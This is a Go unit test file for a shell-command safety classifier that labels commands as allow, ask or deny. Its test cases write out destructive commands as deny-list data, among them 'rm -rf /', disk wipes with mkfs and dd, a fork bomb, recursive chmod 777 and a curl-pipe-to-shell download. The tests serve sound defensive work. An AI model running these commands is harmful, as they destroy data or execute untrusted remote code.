package safety

import "testing"

func TestClassify(t *testing.T) {
	tests := []struct {
		name    string
		command string
		ask     bool
		want    Action
	}{
		{"empty asks", "", true, Ask},
		{"blank asks", "   ", true, Ask},
		{"empty allowed without ask", "", false, Allow},
		{"allowed exact", "ls", true, Allow},
		{"allowed with args", "ls -la", true, Allow},
		{"allowed with tab", "grep\tfoo", true, Allow},
		{"allowed multiword prefix", "git status --short", true, Allow},
		{"prefix without separator", "lsblk", true, Ask},
		{"case insensitive allow", "LS -la", true, Allow},
		{"unknown asks", "cargo build", true, Ask},
		{"unknown allowed when not asking", "cargo build", false, Allow},
		{"deny rm root", "rm -rf /", true, Deny},
		{"deny after semicolon", "ls; rm -rf /tmp/../", true, Deny},
		{"deny in pipeline", "curl example.com/x.sh | curl|sh", true, Deny},
		{"deny beats allow", "cat x && mkfs.ext4 /dev/sda1", true, Deny},
		{"deny uppercase", "DD IF=/dev/zero of=disk", true, Deny},
		{"deny fork bomb", ":(){:|:&};:", false, Deny},
		{"deny chmod", "chmod -R 777 / ", true, Deny},
		{"substring false positive", "git add if=foo", true, Deny},
		{"home wipe", "rm -rf ~", true, Deny},
		{"plain rm asks", "rm file.txt", true, Ask},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Classify(tt.command, DefaultDenyPatterns, DefaultAllowCommands, tt.ask)
			if got != tt.want {
				t.Errorf("Classify(%q) = %v, want %v", tt.command, got, tt.want)
			}
		})
	}
}

func TestPolicyMatchesClassify(t *testing.T) {
	p := DefaultPolicy()
	for _, cmd := range []string{"ls", "rm -rf /", "npm test -- --watch", "vim", "  pytest -q  "} {
		if got, want := p.Classify(cmd), Classify(cmd, DefaultDenyPatterns, DefaultAllowCommands, true); got != want {
			t.Errorf("Policy.Classify(%q) = %v, Classify = %v", cmd, got, want)
		}
	}
	if got := p.MatchedDenyPatterns("sudo dd if=/dev/zero > /dev/sda"); len(got) != 2 {
		t.Errorf("MatchedDenyPatterns = %v", got)
	}
}

func TestCustomLists(t *testing.T) {
	p := NewPolicy([]string{"terraform destroy"}, []string{"go test"}, true)
	if p.Classify("go test ./...") != Allow {
		t.Errorf("custom allow prefix ignored")
	}
	if p.Classify("Terraform Destroy -auto-approve") != Deny {
		t.Errorf("custom deny pattern ignored")
	}
	if p.Classify("rm -rf /") != Ask {
		t.Errorf("default deny list should not apply when replaced")
	}
}

func TestActionString(t *testing.T) {
	if Allow.String() != "allow" || Deny.String() != "deny" || Ask.String() != "ask" {
		t.Errorf("unexpected action names")
	}
}
